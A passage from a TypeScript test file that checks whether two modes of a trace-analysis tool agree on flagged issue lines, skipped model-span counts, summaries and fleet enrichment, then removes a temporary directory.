      assert.deepEqual(many.inputs.traces[0]!.issues.map((i) => i.line), [...bad], file);
      assert.deepEqual(one.inputs.traces[0]!.issues.map((i) => i.line), [...bad], file);
      assert.ok(Number(skipped(one)) >= 2900 && skipped(many) === skipped(one), `${file}: skipped model spans ${String(skipped(one))} / ${String(skipped(many))}`);
      assert.deepEqual(summary(many), summary(one), file);
      assert.deepEqual(many.enrichment.fleet, one.enrichment.fleet, file);
      assert.ok(summary(one).some((s) => s.startsWith('metadata_access 1 c2001')), `${file}: ${summary(one).join(' | ')}`);
    }
  } finally { rmSync(dir, { recursive: true, force: true }); }
});
